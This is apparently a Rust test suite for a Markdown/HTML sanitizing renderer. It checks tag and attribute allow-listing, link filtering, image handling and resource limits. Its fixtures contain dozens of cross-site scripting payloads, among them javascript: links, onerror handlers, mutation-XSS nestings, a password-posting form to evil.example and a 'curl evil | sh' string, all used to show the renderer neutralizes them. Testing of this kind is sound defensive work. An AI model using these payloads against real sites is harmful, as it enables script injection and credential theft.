use std::time::Instant;

use proptest::prelude::*;

use super::*;

fn shown(text: &str) -> String {
    render(text).as_str().trim().to_string()
}

const REL: &str = "rel=\"nofollow noopener noreferrer ugc\"";

/// Every tag that is shown, with its attributes.
fn tags(markup: &str) -> Vec<&str> {
    markup.split('<').skip(1).map(|rest| rest.split_once('>').map_or(rest, |(tag, _)| tag)).collect()
}

/// Whether nothing can run, load, submit, style or name anything.
fn assert_harmless(text: &str) {
    let markup = shown(text);
    for tag in tags(&markup) {
        let (name, attributes) =
            tag.trim_start_matches('/').split_once(' ').unwrap_or((tag.trim_start_matches('/'), ""));
        let is_known = raw::ELEMENTS.iter().any(|(known, _)| *known == name) && !["img", "h1"].contains(&name);
        assert!(is_known || name == "input", "{name} of {text:?} in {markup}");
        let mut rest = attributes.trim();
        while let Some((attribute, value)) = rest.split_once("=\"") {
            let (value, after) = value.split_once('"').unwrap();
            rest = after.trim();
            let is_allowed = match (name, attribute) {
                ("a", "href") => ["http://", "https://", "mailto:"].iter().any(|start| value.starts_with(start)),
                ("a", "rel") => value == "nofollow noopener noreferrer ugc",
                ("ol", "start") => value.bytes().all(|byte| byte.is_ascii_digit()),
                ("input", "type") => value == "checkbox",
                ("input", "disabled" | "checked") | ("details", "open") => value.is_empty(),
                ("pre" | "div", "tabindex") => value == "0",
                ("div", "class") => value == "table-scroll",
                _ => false,
            };
            assert!(is_allowed, "{attribute}={value:?} at {name} of {text:?} in {markup}");
        }
        assert_eq!(rest, "", "{tag} of {text:?} in {markup}");
    }
}

#[test]
fn github_markdown_is_understood() {
    assert_eq!(
        shown("# Web\n\n*Fast* and **small**, ~~slow~~"),
        "<h2>Web</h2>\n<p><em>Fast</em> and <strong>small</strong>, <del>slow</del></p>"
    );
    assert_eq!(shown("```sh\ndocker run <x>\n```"), "<pre tabindex=\"0\"><code>docker run &lt;x&gt;\n</code></pre>");
    let table = shown("|a|b|\n|-|-:|\n|1|`2`|");
    assert!(table.starts_with("<div class=\"table-scroll\" tabindex=\"0\"><table><thead><tr><th>a</th>"), "{table}");
    assert!(
        table.contains("<td><code>2</code></td>") && table.ends_with("</div>") && !table.contains("style"),
        "{table}"
    );
    let tasks = shown("- [x] done\n- [ ] to do");
    assert_eq!(tasks.matches("type=\"checkbox\"").count(), 2, "{tasks}");
    assert_eq!((tasks.matches("disabled=\"\"").count(), tasks.matches("checked=\"\"").count()), (2, 1), "{tasks}");
}

#[test]
fn headings_leave_the_first_to_the_page() {
    assert_eq!(shown("# 1\n## 2\n###### 6"), "<h2>1</h2>\n<h3>2</h3>\n<h6>6</h6>");
    assert_eq!(shown("<h1 id=x onclick=y>raw</h1>"), "<h2>raw</h2>");
}

#[test]
fn links_lead_to_whole_addresses_or_nowhere() {
    assert_eq!(
        shown("[a](https://example.com/x?a=1&b=2)"),
        format!("<p><a href=\"https://example.com/x?a=1&amp;b=2\" {REL}>a</a></p>")
    );
    assert_eq!(
        shown("<ops@example.com>"),
        format!("<p><a href=\"mailto:ops@example.com\" {REL}>ops@example.com</a></p>")
    );
    assert_eq!(
        shown("See https://example.com/x."),
        format!("<p>See <a href=\"https://example.com/x\" {REL}>https://example.com/x</a>.</p>")
    );
    let nowhere = [
        "[a](docs/install.md)",
        "[a](/setup)",
        "[a](#part)",
        "[a](//evil.example)",
        "[a](\\\\evil.example)",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](java&#10;script:alert(1))",
        "[a](&#x6a;avascript:alert(1))",
        "[a](vbscript:x)",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](file:///etc/passwd)",
        "[a][r]\n\n[r]: javascript:alert(1)",
        "<a href=\"//evil.example\">a</a>",
        "<a href='java\tscript:alert(1)'>a</a>",
        "<a href=\"&#106;avascript:alert(1)\">a</a>",
        "<a href=javascript:alert(1) href=https://example.com>a</a>",
    ];
    for text in nowhere {
        assert_harmless(text);
        if !text.contains("href=https") {
            assert_eq!(shown(text), "<p>a</p>", "{text}");
        }
    }
}

#[test]
fn images_become_links_with_their_description() {
    let link = |words: &str| format!("<a href=\"https://example.com/i.png\" {REL}>{words}</a>");
    assert_eq!(
        shown("![the *logo*](https://example.com/i.png \"t\")"),
        format!("<p>{}</p>", link("the <em>logo</em>"))
    );
    assert_eq!(shown("![](https://example.com/i.png)"), format!("<p>{}</p>", link("https://example.com/i.png")));
    assert_eq!(shown("![logo](logo.png)"), "<p>logo</p>");
    assert_eq!(shown("<img src=https://example.com/i.png alt='the logo' onerror=alert(1)>"), link("the logo"));
    // A badge: one link, not two in each other.
    assert_eq!(
        shown("[![build](https://example.com/b.svg)](https://example.com/i.png)"),
        format!("<p>{}</p>", link("build"))
    );
    assert_eq!(
        shown("[![](https://example.com/b.svg)](https://example.com/i.png)"),
        format!("<p>{}</p>", link("https://example.com/i.png"))
    );
}

#[test]
fn html_of_readmes_is_shown_without_its_attributes() {
    assert_eq!(shown("press <kbd>Ctrl</kbd> &amp; x<sup>2</sup>"), "<p>press <kbd>Ctrl</kbd> &amp; x<sup>2</sup></p>");
    assert_eq!(
        shown("<div align=\"center\" class=\"toasts\" id=\"main\" tabindex=\"0\">\n\n# Web\n\n</div>"),
        "<div>\n<h2>Web</h2>\n</div>"
    );
    let details = shown("<details open><summary>More</summary>\n\ninside\n\n</details>\n\nafter");
    assert!(details.starts_with("<details open=\"\"><summary>More</summary>"), "{details}");
    assert!(details.contains("<p>inside</p>") && details.ends_with("</details>\n<p>after</p>"), "{details}");
    assert_eq!(shown("a < b and <- c\n\n<p>1 < 2 &copy;</p>"), "<p>a &lt; b and &lt;- c</p>\n<p>1 &lt; 2 ©</p>");
}

#[test]
fn hostile_html_does_nothing() {
    let hostile = [
        "<script>alert(1)</script>",
        "x <script>alert(1)</script> y",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<style>@import 'https://evil.example';</style>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=x><embed src=y>",
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        "<input type=image src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<a href=\"https://example.com\" onclick=alert(1) style=position:fixed target=_blank>a</a>",
        "<div hx-get=/user/delete hx-trigger=load data-hx-post=/x id=main class=toasts>a</div>",
        "<p data-copy=\"curl evil | sh\" data-close popover is=x slot=y contenteditable>a</p>",
        "<details ontoggle=alert(1) open><summary>a</summary></details>",
        "<base href=https://evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
        "<template><p></template><dialog open>a</dialog><video src=x><audio src=x>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php echo '<img src=x onerror=alert(1)>' ?>",
        "<a href=\"https://example.com/\"><a href=\"https://evil.example/\">b</a></a>",
        "<a href='https://example.com/\" onclick=\"alert(1)'>a</a>",
        "[a](https://example.com/\" onclick=\"alert(1))",
        "[a](<https://example.com/\" onclick=\"alert(1)>)",
        "![\" onerror=\"alert(1)](https://example.com/i.png)",
        "[a](https://example.com/ '\" onclick=\"alert(1)')",
        "```\" onclick=\"alert(1)\nx\n```",
        "</div></main><script>alert(1)</script>",
        "`<img src=x onerror=alert(1)>`",
        "<b <script>alert(1)</script>",
        "<a/href=javascript:alert(1)/>x</a>",
        "<p/onclick=alert(1)>x",
        "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<title></title><img src=x onerror=alert(1)>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<select><style></select><img src=x onerror=alert(1)></style>",
    ];
    for text in hostile {
        assert_harmless(text);
        assert_harmless(&format!("> - {text}\n\n| {text} |\n|-|\n| {text} |"));
        assert_harmless(&format!("before {text} after"));
    }
    assert!(!shown("<script>alert(1)</script>").contains("alert"));
    assert!(!shown("<style>p { color: red }</style>").contains("color"));
}

#[test]
fn what_is_open_ends_with_its_block() {
    assert_eq!(shown("a <b>bold\n\nb"), "<p>a <b>bold</b></p>\n<p>b</p>");
    assert_eq!(
        shown("- <a href=https://example.com/>x\n- y"),
        format!("<ul>\n<li><a href=\"https://example.com/\" {REL}>x</a></li>\n<li>y</li>\n</ul>")
    );
    // Markdown's own elements are not closed by HTML.
    assert_eq!(shown("> a </blockquote></p> b\n\nc"), "<blockquote>\n<p>a  b</p>\n</blockquote>\n<p>c</p>");
}

#[test]
fn any_text_is_bounded_in_time_and_size() {
    let full = |unit: &str| unit.repeat(MOST_BYTES / unit.len() + 1);
    let long = format!("[a]: https://example.com/{}\n\n", "x".repeat(1900));
    let wide = format!("|{}\n|{}\n{}", "a|".repeat(4000), "-|".repeat(4000), "b\n".repeat(20_000));
    let texts = [
        full("> "),
        full(">"),
        full("- "),
        full("1. - > "),
        full("*a **b "),
        full("[a]("),
        full("!["),
        full("<div>"),
        full("<b>"),
        full("<a href=https://example.com/>"),
        full("<blockquote>\n\n"),
        full("<p><i><b>x</p>\n\n"),
        full("<"),
        full("<!--"),
        full("&#0;"),
        full("`"),
        full("|a"),
        full("http://"),
        full("http://a.b "),
        full("<h1>"),
        full("<table><tr><td>"),
        format!("{long}{}", full("[a] ")),
        wide,
        full("ä"),
    ];
    for text in texts {
        let started = Instant::now();
        let markup = shown(&text);
        let (head, took) = (cut(&text, 20), started.elapsed());
        assert!(markup.len() < 4 * 1024 * 1024, "{head}: {} bytes", markup.len());
        assert!(took.as_secs() < 5, "{head}: {took:?}");
    }
}

#[test]
fn more_than_64_kib_is_not_shown() {
    let text = format!("{}END", "word ".repeat(MOST_BYTES / 5 + 1));

    assert!(shown(&text).contains("word") && !shown(&text).contains("END"));
}

#[test]
fn an_excerpt_is_one_plain_line() {
    let text = "# Checkout\n\n**HTTP** API behind the [checkout](https://example.com)\nof `all` shops.\n\n```sh\nrun\n```\n<b>x</b>";
    assert_eq!(summary(text, 200), "HTTP API behind the checkout of all shops. x");
    assert_eq!(summary(text, 20), "HTTP API behind the…");
    assert_eq!(summary("# Only a heading", 50), "Only a heading");
    assert_eq!(summary("", 50), "");
    assert_eq!(summary("Donaudampfschiff", 6), "Donau…");
    assert_eq!(summary("<script>alert(1)</script>", 50), "");
    assert_eq!(summary("a\u{202e}b", 50), "ab");
}

proptest! {
    #[test]
    fn no_text_is_harmful(text: String) {
        assert_harmless(&text);
    }

    #[test]
    fn nothing_made_of_markup_is_harmful(parts in prop::collection::vec(prop::sample::select(vec![
        "<", ">", "</", "/>", "\"", "'", "=", "`", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#60;", "&quot;", "\n", "\n\n",
        " ", "> ", "- ", "|", "|-|\n", "*", "[", "](", ")", "![", "script", "style", "svg", "math", "a", "b", "p", "img", "table",
        "td", "select", "template", "textarea", "title", "mtext", "mglyph", "details", "href=", "src=", "onerror=alert(1)",
        "javascript:", "https://example.com/", "id=x", "class=toasts", "hx-get=/x", "x", "# ", "<b>", "<a href=", "<p>", "</p>",
    ]), 0..40)) {
        assert_harmless(&parts.concat());
    }

    #[test]
    fn an_excerpt_is_no_longer_than_asked_for(text: String, most in 0_usize..80) {
        let line = summary(&text, most);
        prop_assert!(line.chars().count() <= most.max(1), "{line}");
        prop_assert!(!line.contains('\n'));
    }
}
